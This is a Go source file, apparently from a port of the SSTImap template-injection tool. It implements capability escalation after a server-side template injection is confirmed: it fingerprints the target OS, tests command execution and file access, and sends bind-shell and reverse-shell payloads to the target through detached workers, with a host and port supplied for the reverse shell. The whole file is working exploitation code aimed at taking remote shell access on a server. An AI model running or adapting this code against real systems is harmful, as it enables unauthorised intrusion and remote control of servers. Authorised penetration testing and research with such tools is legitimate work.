// Package capability implements capability escalation (component E): once
// render or blind injection is confirmed, probe OS fingerprint, command
// execution, file I/O availability, and shell access.
package capability

import (
	"context"
	"regexp"
	"strings"

	"github.com/sstimap/sstimap-go/pkg/detect"
	"github.com/sstimap/sstimap-go/pkg/inject"
	"github.com/sstimap/sstimap-go/pkg/shellpool"
	"github.com/sstimap/sstimap-go/pkg/template"
)

// RenderedDetected runs once render injection is confirmed: OS fingerprint
// via evaluate, then a command-execution probe whose trimmed output must
// match exactly, gating execute/bind_shell/reverse_shell.
func RenderedDetected(ctx context.Context, s *detect.Session) error {
	data := s.Channel.Data()

	evalAction := s.Plugin.Actions["evaluate"]
	testOS := evalAction.String("test_os")
	testOSExpected := evalAction.String("test_os_expected")
	if testOS != "" && testOSExpected != "" {
		result, err := s.Prim.Evaluate(ctx, testOS, inject.CallOpts{})
		if err != nil {
			return err
		}
		if re, reErr := regexp.Compile(testOSExpected); reErr == nil && re.MatchString(result) {
			data.Set("os", result)
			data.Set("evaluate", s.Plugin.Language)
		}
	}

	if _, ok := s.Plugin.Actions["write"]; ok {
		data.Set("write", true)
	}
	if _, ok := s.Plugin.Actions["read"]; ok {
		data.Set("read", true)
	}

	execAction := s.Plugin.Actions["execute"]
	testCmd := execAction.String("test_cmd")
	testCmdExpected := execAction.String("test_cmd_expected")
	if testCmd != "" {
		result, err := s.Prim.Execute(ctx, testCmd, inject.CallOpts{})
		if err != nil {
			return err
		}
		if strings.TrimRight(result, "\r\n") == testCmdExpected {
			data.Set("execute", true)
			data.Set("bind_shell", true)
			data.Set("reverse_shell", true)
		}
	}
	return nil
}

// BlindDetected runs once blind injection is confirmed: there is no
// reflected output to fingerprint the OS from, so evaluate_blind is
// recorded unconditionally and only a successful blind command execution
// gates the remaining capabilities.
func BlindDetected(ctx context.Context, s *detect.Session) error {
	data := s.Channel.Data()
	data.Set("evaluate_blind", s.Plugin.Language)

	execAction := s.Plugin.Actions["execute_blind"]
	testCmd := execAction.String("test_cmd")
	if testCmd == "" {
		return nil
	}
	verdict, err := s.Prim.ExecuteBlind(ctx, testCmd, inject.CallOpts{})
	if err != nil {
		return err
	}
	if verdict {
		data.Set("execute_blind", true)
		data.Set("write", true)
		data.Set("bind_shell", true)
		data.Set("reverse_shell", true)
	}
	return nil
}

// BindShell formats every declared bind-shell payload variant with the
// requested port/shell and spawns one detached worker per variant,
// returning their handles for observability only — the core never waits on
// them.
func BindShell(ctx context.Context, s *detect.Session, port, shell string) []shellpool.Handle {
	action := s.Plugin.Actions["bind_shell"]
	callName := action.Call
	if callName == "" {
		callName = "inject"
	}
	fields := template.Fields{"port": port, "shell": shell}

	var handles []shellpool.Handle
	for _, tpl := range action.Lists["bind_shell"] {
		payload := template.Format(tpl, fields)
		handles = append(handles, shellpool.Spawn(func() {
			_, _, _ = s.Prim.Dispatch(ctx, callName, payload, inject.CallOpts{})
		}))
	}
	return handles
}

// ReverseShell mirrors BindShell but never returns worker handles, matching
// the original generator-vs-procedure asymmetry between bind and reverse
// shell helpers.
func ReverseShell(ctx context.Context, s *detect.Session, host, port, shell string) {
	action := s.Plugin.Actions["reverse_shell"]
	callName := action.Call
	if callName == "" {
		callName = "inject"
	}
	fields := template.Fields{"host": host, "port": port, "shell": shell}

	for _, tpl := range action.Lists["reverse_shell"] {
		payload := template.Format(tpl, fields)
		shellpool.Spawn(func() {
			_, _, _ = s.Prim.Dispatch(ctx, callName, payload, inject.CallOpts{})
		})
	}
}
